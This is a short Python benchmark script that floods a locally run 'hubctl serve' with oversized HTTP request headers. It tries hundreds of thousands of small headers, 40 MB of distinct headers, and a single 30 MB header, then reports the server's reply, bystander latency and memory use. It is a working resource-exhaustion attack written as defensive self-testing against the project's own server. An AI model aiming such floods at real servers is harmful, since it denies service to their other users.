"""Sends far too large request heads to `hubctl serve`, and prints the answers that a bystander
gets.

python bench/attacks/headers.py [--hubctl PATH]
"""

import contextlib
import socket

from victim import Victim, bystander, home_seconds, hubctl_option, memory_mib, serving_samples

# A path of the Flask side, where headers of one name are joined.
START = b"GET /healthz HTTP/1.1\r\nHost: x\r\n"
MB = 1_000_000
SECONDS_MAX = 240


def main() -> None:
    with serving_samples(hubctl_option(__doc__)) as server:
        for name, parts in (
            ("400,000 headers of 5 bytes", [b"x:a\r\n" * 1000] * 400),
            # Different names, so none are joined.
            ("40 MB of headers", [b"x%d: %b\r\n" % (n, b"a" * 980) for n in range(40_000)]),
            ("one header of 30 MB", [b"x: ", *[b"a" * 65536] * (30 * MB // 65536), b"\r\n"]),
        ):
            with bystander(lambda: home_seconds(server.port)) as waits:
                answer = send(server, parts)
            print(
                f"{name}: {answer}; bystander's longest GET / {max(waits):.2f} s; "
                f"server at most {memory_mib(server.pid)} MiB"
            )


def send(server: Victim, parts: list[bytes]) -> str:
    with socket.create_connection(("127.0.0.1", server.port), SECONDS_MAX) as connection:
        with contextlib.suppress(ConnectionError):
            connection.sendall(START)
            for part in parts:
                connection.sendall(part)
            connection.sendall(b"Connection: close\r\n\r\n")
        try:
            answer = connection.recv(64)
        except OSError as error:
            return type(error).__name__
    return answer.split(b"\r\n")[0].decode() or "hung up"


if __name__ == "__main__":
    main()
